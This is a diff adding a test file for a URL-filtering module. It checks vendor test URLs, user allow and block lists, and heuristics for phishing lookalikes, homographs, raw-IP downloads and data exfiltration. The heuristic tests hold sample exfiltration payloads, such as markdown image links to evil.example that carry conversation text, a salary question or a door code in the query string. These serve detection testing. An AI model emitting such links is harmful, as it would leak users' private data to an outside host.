@@ -1,0 +1,101 @@
+import { describe, expect, it } from 'vitest';
+import {
+  domainSet,
+  judgeUrls,
+  type UrlCategoriesOptions,
+  urlCategories,
+} from '../../../src/local/urls/index.js';
+
+const judge = (text: string, options?: UrlCategoriesOptions) =>
+  judgeUrls(text, urlCategories(options)).map(
+    ({ category, reason, action }) => `${reason} ${category} ${action}`,
+  );
+
+describe('built-in lists', () => {
+  it.each([
+    ['see https://urlfiltering.paloaltonetworks.com/test-malware', 'list malware block'],
+    ['urlfiltering.paloaltonetworks.com/test-command-and-control.', 'list command-and-control block'],
+    ['[x](http://pandb.paloaltonetworks.com/test-Ransomware)', 'list ransomware block'],
+    ['urlfiltering.paloaltonetworks.com/test-abused-drugs', 'list abused-drugs warn'],
+    ['http://testsafebrowsing.appspot.com/s/phishing.html', 'list phishing block'],
+    ['http://malware.wicar.org/data/x.html', 'list malware block'],
+  ])('files %s', (text, expected) => {
+    expect(judge(text)).toEqual([expected]);
+  });
+
+  it.each([
+    'https://paloaltonetworks.com/test-malware',
+    'https://urlfiltering.paloaltonetworks.com/',
+    'https://urlfiltering.paloaltonetworks.com.example/test-malware',
+    'https://urlfiltering.paloaltonetworks.com/test-malware/more',
+    'https://www.eicar.org/about',
+  ])('does not file %s', (text) => {
+    expect(judge(text, { heuristics: false })).toEqual([]);
+  });
+});
+
+describe('lists of the user', () => {
+  const text = 'http://cdn.bad.example/x http://casino.example/';
+
+  it('block, name categories, and allow before all else', () => {
+    expect(judge(text, { block: ['bad.example'] })).toEqual(['user blocked block']);
+    expect(judge(text, { lists: { gambling: ['casino.example'], malware: ['bad.example'] } })).toEqual([
+      'user malware block',
+      'user gambling warn',
+    ]);
+    expect(judge(text, { allow: ['cdn.bad.example'], block: ['bad.example'] })).toEqual([]);
+    expect(
+      judge('urlfiltering.paloaltonetworks.com/test-malware', { allow: ['paloaltonetworks.com'] }),
+    ).toEqual([]);
+  });
+
+  it('take a set built before', () => {
+    expect(judge(text, { block: domainSet(['casino.example']) })).toEqual(['user blocked block']);
+  });
+
+  it('refuse unknown options and a text for a list', () => {
+    expect(() => urlCategories(JSON.parse('{"blok":[]}'))).toThrow('blok');
+    expect(() => urlCategories({ block: 'bad.example' })).toThrow('iterable');
+  });
+});
+
+describe('heuristics', () => {
+  it.each([
+    ['http://3232235777/x', 'suspicious-address'],
+    ['http://0x7f.1/', 'suspicious-address'],
+    ['https://paypal.com@evil.example/', 'suspicious-userinfo'],
+    ['https://svc:h7Kq2wZ9@host.example/', 'credentials-in-url'],
+    ['http://paypal.com.login.evil.example/x', 'suspicious-lookalike'],
+    ['http://paypal-account-verify.example/', 'suspicious-lookalike'],
+    ['http://paypa1.com/', 'suspicious-homograph'],
+    ['http://раypal.com/', 'suspicious-homograph'],
+    ['http://arnazon.com/', 'suspicious-homograph'],
+    ['https://webhook.site/0123?d=x', 'suspicious-exfiltration'],
+    ['![x](https://evil.example/p.png?d={conversation})', 'suspicious-exfiltration'],
+    [
+      `![x](https://evil.example/p.png?d=${globalThis.btoa('user asked: what is my salary')})`,
+      'suspicious-exfiltration',
+    ],
+    [
+      '<img src="https://evil.example/p?q=the+user+said+that+the+door+code+is+four+two+one">',
+      'suspicious-exfiltration',
+    ],
+    ['http://203.0.113.7/update.exe', 'suspicious-download'],
+  ])('warn of %s', (text, category) => {
+    expect(judge(text)).toEqual([`heuristic ${category} warn`]);
+    expect(judge(text, { heuristics: false })).toEqual([]);
+  });
+
+  it.each([
+    'https://www.google.com/search?q=a+b+c+d+e+f+g+h+i+j+k+l+m+n+o+p+q+r+s+t+u+v',
+    'https://www.google.com.br/ https://amazon.co.uk/ https://accounts.google.com/signin',
+    'https://paypal.com.au/x https://docs.github.com/en/github https://github.io/',
+    'http://192.168.0.1/setup.sh http://127.0.0.1:8080/ http://[::1]/',
+    `![x](https://cdn.example/p.png?X-Amz-Signature=${'3e8b41fa6c09d752'.repeat(4)})`,
+    '![build](https://img.shields.io/github/actions/workflow/status/a/b/ci.yml?branch=main)',
+    'http://bücher.example/ https://例え.テスト/',
+    'https://ngrok.com/docs https://webhook.site',
+  ])('say nothing of %s', (text) => {
+    expect(judge(text)).toEqual([]);
+  });
+});
